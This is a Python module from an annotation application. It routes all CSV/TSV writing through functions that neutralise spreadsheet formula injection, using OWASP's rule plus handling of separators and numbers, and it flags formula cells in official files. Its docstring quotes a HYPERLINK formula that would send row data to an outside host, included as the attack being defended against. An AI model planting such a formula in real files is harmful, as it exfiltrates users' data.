"""Every CSV and TSV file the application writes, and the cells a spreadsheet would run as a formula.

Why one module: organisers open exports, annotator tables, audit trails and reports in a spreadsheet, and
a cell of an annotator's text answer or of an imported item beginning with ``=`` runs there
(``=HYPERLINK("http://...?d="&B2&C2,"Invoice")`` sends the row's neighbours away when clicked). Every CSV
writer of the application is one of the functions below, so a new file cannot forget it
(tests/unit/test_csv_one_writer.py fails on a CSV written anywhere else).

The rule (OWASP, "CSV Injection"), and what we decided where OWASP leaves room:

- A text cell that starts with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return is written with a
  single quote before it (``'=HYPERLINK(...)``), which every spreadsheet shows as text.
- Also when those characters come after leading white space, quotes or zero-width characters
  (`` =1+1``, ``"=1+1``, ``'=1+1``): some spreadsheets trim a cell before reading it.
- Numbers stay numbers: a cell that is a plain decimal number (``-0.25``, ``+3``, ``-1e-05``) is data a
  spreadsheet reads as that number, and escaping it would turn a numeric column into text (a KPA stance
  of ``-1``, a negative score). Only numbers written exactly so are left alone: ``-1+1``, ``-0x10``,
  ``-inf`` and ``-1,5`` are quoted. Numbers written from numeric values (int, float) are never touched.
- Other separators: a spreadsheet told the wrong separator (Excel opening a CSV by double-click where the
  list separator is ``;``; an import dialog with tab, comma and semicolon ticked) starts a cell after a
  ``;``, a tab, a comma or a line break inside our cell, where RFC 4180's quotes do not protect it (they
  count only at the start of a field). So the same rule applies to each part of a cell after such a
  character, except the file's own delimiter (a cell holding it is quoted, which a reader with that
  delimiter honours): ``x;=cmd`` is written ``x;'=cmd``. This alters a text only where such a part
  starts with a formula character (a dialogue dash after a line break, ``, @name`` in a TSV).
- What we read back (a controls file the application wrote, ``restored``) loses the quote again: the rule
  decides from what follows the quote, and an added quote does not change that, so writing and reading
  back gives the text as it was, including texts that began with a quote.

The shared tasks' own files (``write_official_frame``, ``official_writer``) keep their bytes: reading them
back byte for byte is their point. For those, ``formula_cells`` names each cell a spreadsheet would run
(file, line, column), and the export says so (campaigns/formula_cells.py). docs/csv-cells.md has the whole
story for organisers.
"""
from __future__ import annotations

import csv
import io
import json
import re
from collections.abc import Iterable, Sequence
from dataclasses import dataclass
from pathlib import Path
from typing import IO, TYPE_CHECKING, Any, TextIO

from annotator.core.private_files import open_private

if TYPE_CHECKING:
    import pandas as pd

QUOTE = "'"
FORMULA_STARTS = frozenset("=+-@")
CONTROL_STARTS = frozenset("\t\r")  # OWASP: a tab or carriage return first, whatever follows
SEPARATORS = ",;\t\r\n"  # where a spreadsheet may start a cell: the common delimiters and line breaks
_LEADING = re.compile(r"[\s'\"\u200b\u200c\u200d\u2060\ufeff]*")  # trimmed by some spreadsheets
_NUMBER = re.compile(r"[+-]?(?:[0-9]+(?:\.[0-9]*)?|\.[0-9]+)(?:[eE][+-]?[0-9]+)?")
_ANY_TRIGGER = re.compile(r"[=+\-@\t\r]")
_SPLITTERS = {d: re.compile("([" + re.escape(SEPARATORS.replace(d, "")) + "])") for d in (*SEPARATORS, "")}


def _part_runs(part: str) -> bool:
    """Whether a spreadsheet reading `part` as a cell would take it for a formula."""
    core = part[_LEADING.match(part).end():]  # type: ignore[union-attr]  # the pattern matches every string
    return core[:1] in FORMULA_STARTS and _NUMBER.fullmatch(core) is None


def _start_runs(cell: str, first_part: str) -> bool:
    return cell.lstrip("'\"")[:1] in CONTROL_STARTS or _part_runs(first_part)


def _parts(cell: str, delimiter: str) -> list[str]:
    """The cell cut at the separators other than the file's own: [part, separator, part, ...]."""
    return _SPLITTERS.get(delimiter, _SPLITTERS[""]).split(cell)


def runs_as_formula(cell: str, delimiter: str = ",") -> bool:
    """Whether a spreadsheet could run the text `cell` (or a part of it after another separator)."""
    if not _ANY_TRIGGER.search(cell):
        return False
    parts = _parts(cell, delimiter)
    return _start_runs(cell, parts[0]) or any(_part_runs(p) for p in parts[2::2])


def neutralised(cell: str, delimiter: str = ",") -> str:
    """`cell` as written into a file with `delimiter`: a quote before it, and before each part after another
    separator, that a spreadsheet would run (see the module docstring)."""
    if not _ANY_TRIGGER.search(cell):  # most cells: no character that could start a formula
        return cell
    parts = _parts(cell, delimiter)
    if _start_runs(cell, parts[0]):
        parts[0] = QUOTE + parts[0]
    for i in range(2, len(parts), 2):
        if _part_runs(parts[i]):
            parts[i] = QUOTE + parts[i]
    return "".join(parts)


def restored(cell: str, delimiter: str = ",") -> str:
    """The text `neutralised` was given: its added quotes taken off (for files the application wrote)."""
    if QUOTE not in cell:
        return cell
    parts = _parts(cell, delimiter)
    first = parts[0]
    if first.startswith(QUOTE) and _start_runs(cell[1:], first[1:]):
        parts[0] = first[1:]
    for i in range(2, len(parts), 2):
        if parts[i].startswith(QUOTE) and _part_runs(parts[i][1:]):
            parts[i] = parts[i][1:]
    return "".join(parts)


def _cell(value: Any, delimiter: str) -> Any:
    return neutralised(value, delimiter) if isinstance(value, str) else value


# --------------------------------------------------------------------------------------------- writing

class SheetWriter:
    """A csv.writer whose text cells are neutralised; numbers and None are written as csv writes them."""

    def __init__(self, out: IO[str], delimiter: str = ",", lineterminator: str = "\n") -> None:
        self._writer = csv.writer(out, delimiter=delimiter, lineterminator=lineterminator)
        self._delimiter = delimiter

    def writerow(self, row: Iterable[Any]) -> None:
        self._writer.writerow([_cell(value, self._delimiter) for value in row])

    def writerows(self, rows: Iterable[Iterable[Any]]) -> None:
        for row in rows:
            self.writerow(row)


def csv_text(header: Sequence[str], rows: Iterable[Iterable[Any]], delimiter: str = ",",
             lineterminator: str = "\n") -> str:
    """A whole file's text (for a download): the header, then the rows."""
    out = io.StringIO()
    writer = SheetWriter(out, delimiter, lineterminator)
    writer.writerow(header)
    writer.writerows(rows)
    return out.getvalue()


def dict_rows(columns: Sequence[str], rows: Iterable[dict[str, Any]]) -> Iterable[list[Any]]:
    """Dicts as rows of `columns` (a missing key is an empty cell; other keys are left out)."""
    return ([row.get(column, "") for column in columns] for row in rows)


def write_csv(path: Path, header: Sequence[str], rows: Iterable[Iterable[Any]], delimiter: str = ",",
              lineterminator: str = "\n") -> Path:
    """A file of the header and rows, UTF-8, 0600 (core/private_files.py); the path."""
    with open_private(Path(path), "w", encoding="utf-8", newline="") as out:
        writer = SheetWriter(out, delimiter, lineterminator)
        writer.writerow(header)
        writer.writerows(rows)
    return Path(path)


def write_frame(frame: pd.DataFrame, path: Path, sep: str = ",", **to_csv: Any) -> Path:
    """`frame.to_csv(path, sep=sep, index=False, **to_csv)` with its text cells and column names neutralised;
    numeric, boolean and date columns are written by pandas as they were. Any other column (object, string,
    categorical) may hold text."""
    import pandas as pd
    types = pd.api.types
    safe = frame.rename(columns=lambda name: _cell(name, sep))
    for number in range(safe.shape[1]):  # by position: a name may repeat
        values = safe.iloc[:, number]
        if not (types.is_numeric_dtype(values) or types.is_bool_dtype(values)
                or types.is_datetime64_any_dtype(values)):
            safe.isetitem(number, values.astype(object).map(lambda value: _cell(value, sep)))
    with open_private(Path(path), "w", encoding=to_csv.pop("encoding", "utf-8"), newline="") as out:
        safe.to_csv(out, sep=sep, index=False, **to_csv)
    return Path(path)


def write_official_frame(frame: pd.DataFrame, path: Path, **to_csv: Any) -> Path:
    """A shared task's own file, byte for byte as `frame.to_csv(path, **to_csv)` writes it: no cell is changed
    (formula_cells names the ones a spreadsheet would run)."""
    frame.to_csv(path, **to_csv)
    return Path(path)


def official_writer(out: TextIO, **fmtparams: Any) -> Any:
    """A plain csv.writer for a shared task's own file layout: no cell is changed (see write_official_frame)."""
    return csv.writer(out, **fmtparams)


# --------------------------------------------------------------------------------- reporting (official)

@dataclass(frozen=True)
class FormulaCell:
    """A cell of a written file that a spreadsheet would run."""
    file: str
    line: int          # the file's line where the cell is (1 = the first line)
    row: int           # the record's number (1 = the first record, usually the header)
    column: str        # the header's name of the column, or its number from 1 when there is no header
    text: str

    @property
    def location(self) -> str:
        return f"{self.file}, line {self.line}, column {self.column}"

    def __str__(self) -> str:
        shown = self.text if len(self.text) <= 40 else self.text[:40] + "..."
        return f"{self.location}: {json.dumps(shown, ensure_ascii=False)}"


def formula_cells(path: Path) -> list[FormulaCell]:
    """The cells of a written file that a spreadsheet would run, read as a spreadsheet splits it: ``.csv`` at
    commas and ``.tsv`` at tabs (RFC 4180 quotes), ``.txt`` at tabs without quotes (token-per-line layouts),
    ``.jsonl`` per line and key (the values a table made of it holds). Other files: none."""
    path = Path(path)
    suffix = path.suffix.lower()
    if suffix == ".jsonl":
        return _jsonl_cells(path)
    if suffix not in (".csv", ".tsv", ".txt"):
        return []
    delimiter = "," if suffix == ".csv" else "\t"
    found: list[FormulaCell] = []
    with path.open(encoding="utf-8", newline="", errors="replace") as source:
        reader = csv.reader(source, delimiter=delimiter,
                            quoting=csv.QUOTE_NONE if suffix == ".txt" else csv.QUOTE_MINIMAL)
        header: list[str] = []
        start = 1
        for number, record in enumerate(reader, 1):
            if number == 1 and suffix != ".txt":
                header = record
            for index, value in enumerate(record):
                if runs_as_formula(value, delimiter):
                    column = header[index] if index < len(header) and number > 1 else str(index + 1)
                    found.append(FormulaCell(path.name, start, number, column, value))
            start = reader.line_num + 1
    return found


def _jsonl_cells(path: Path) -> list[FormulaCell]:
    found: list[FormulaCell] = []
    with path.open(encoding="utf-8", errors="replace") as source:
        for number, line in enumerate(source, 1):
            try:
                record = json.loads(line)
            except json.JSONDecodeError:
                continue
            if not isinstance(record, dict):
                continue
            for key, value in record.items():
                values = value if isinstance(value, list) else [value]
                if any(isinstance(v, str) and runs_as_formula(v) for v in values):
                    shown = json.dumps(value, ensure_ascii=False)
                    found.append(FormulaCell(path.name, number, number, str(key), shown))
    return found
